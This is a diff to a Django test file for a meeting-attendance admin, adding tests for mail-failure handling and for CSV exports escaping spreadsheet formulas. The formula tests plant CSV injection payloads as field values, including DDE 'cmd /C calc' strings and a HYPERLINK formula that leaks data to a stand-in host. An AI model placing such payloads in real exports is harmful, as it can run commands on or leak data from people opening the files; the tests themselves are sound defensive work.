@@ -10,7 +10,10 @@ from django.utils import timezone
 from django.utils.translation import gettext as _
 from icalendar import Calendar
 
+from common import outbox
+from common.models import OutgoingEmail
 from netwerk.models import ActionItem, Attendance, Meeting
+from tests.mail import committed
 from tests.netwerk.builders import make_action, make_attendance, make_meeting, make_person
 
 CHANGELIST = "admin:netwerk_meeting_changelist"
@@ -34,10 +37,11 @@ def held_meeting(workgroup, partner, other_partner):
 
 
 def run_action(client, action, meetings, **extra):
-    return client.post(
-        reverse(CHANGELIST),
-        {"action": action, "_selected_action": [m.pk for m in meetings], **extra},
-    )
+    with committed():
+        return client.post(
+            reverse(CHANGELIST),
+            {"action": action, "_selected_action": [m.pk for m in meetings], **extra},
+        )
 
 
 def test_the_changelist_shows_attending_present_and_partners(
@@ -127,13 +131,34 @@ def test_the_csv_export_opens_in_belgian_excel(admin_client, held_meeting):
     response = run_action(admin_client, "export_attendance_csv", [held_meeting])
     assert response["Content-Type"].startswith("text/csv")
     assert response.content.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    rows = csv_rows(response)
     assert len(rows) == 4
     assert len(rows[0]) == 10
     an = next(row for row in rows if row[3] == "An Peeters")
     assert an[1] == "Werkgroep maart"
     assert an[5] == "Gezinsbond vzw"
     assert an[0] == timezone.localtime(held_meeting.starts_at).strftime("%d-%m-%Y %H:%M")
+
+
+def csv_rows(response):
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+
+
+def test_the_attendance_export_sends_formulas_as_text(admin_client, workgroup, partner):
+    partner.name = "=cmd|' /C calc'!A0"
+    partner.save()
+    meeting = make_meeting(workgroup, starts_in=timedelta(days=-2), title="+Werkgroep")
+    person = make_person(partner, first_name='=HYPERLINK("http://x.example/?leak","klik")')
+    make_attendance(meeting, person, partner, note='@SUM(1+1)*cmd|" /C calc"!A0')
+    make_attendance(meeting, make_person(partner, last_name="-5"), partner, note="=1+1")
+    rows = csv_rows(run_action(admin_client, "export_attendance_csv", [meeting]))
+    cells = {cell for row in rows[1:] for cell in row}
+    assert "'+Werkgroep" in cells
+    assert "'=cmd|' /C calc'!A0" in cells
+    assert '\'=HYPERLINK("http://x.example/?leak","klik")' in cells
+    assert '\'@SUM(1+1)*cmd|" /C calc"!A0' in cells
+    assert {"'=1+1", "'-5"} <= cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_mark_attending_as_present(admin_client, held_meeting, workgroup, partner):
@@ -214,6 +239,23 @@ def test_cancel_asks_first_then_cancels_and_notifies(
     assert calendar.events[0]["SEQUENCE"] == 1
 
 
+def test_a_mail_server_failure_does_not_undo_a_cancellation(
+    admin_client, mailoutbox, settings, workgroup, partner, editor
+):
+    meeting = make_meeting(workgroup)
+    make_attendance(meeting, editor, partner)
+    settings.EMAIL_BACKEND = "tests.mail.FailingBackend"
+    response = run_action(admin_client, "cancel_meetings", [meeting], confirm="yes")
+    assert response.status_code == 302
+    meeting.refresh_from_db()
+    assert meeting.status == Meeting.Status.CANCELLED
+    mail = OutgoingEmail.objects.get()
+    assert (mail.recipients, mail.status) == (editor.email, "pending")
+    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
+    outbox.send_queued(now=mail.next_attempt_at)
+    assert mailoutbox[0].attachments[0].get_param("method") == "CANCEL"
+
+
 def test_the_sign_in_sheet_lists_who_is_expected(admin_client, held_meeting):
     url = reverse("admin:netwerk_meeting_sign_in_sheet", args=[held_meeting.pk])
     response = admin_client.get(url)
@@ -245,6 +287,19 @@ def test_the_participation_grid_gives_each_partner_a_rate(
     lines = download.content.decode("utf-8-sig").splitlines()
     assert lines[0].split(";")[-1] == _("attendance rate")
     assert any(line.startswith("Gezinsbond vzw;") and line.endswith(";50%") for line in lines)
+
+
+def test_the_participation_grid_download_sends_formulas_as_text(admin_client, workgroup, partner):
+    partner.name = '=HYPERLINK("http://x.example/?leak","klik")'
+    partner.save()
+    meeting = make_meeting(workgroup, starts_in=timedelta(hours=-3), title="@SUM(1+1)")
+    make_attendance(meeting, make_person(partner), partner, presence=Attendance.Presence.PRESENT)
+    year = timezone.localtime(meeting.starts_at).year
+    url = reverse("admin:netwerk_meeting_participation")
+    header, *rows = csv_rows(admin_client.get(url, {"jaar": year, "formaat": "csv"}))
+    assert header[1].endswith(" @SUM(1+1)")
+    assert rows[0][0] == '\'=HYPERLINK("http://x.example/?leak","klik")'
+    assert rows[0][1:] == ["P", "1", "1", "0", "100%"]
 
 
 def test_a_nonsense_year_falls_back_to_this_year(admin_client):
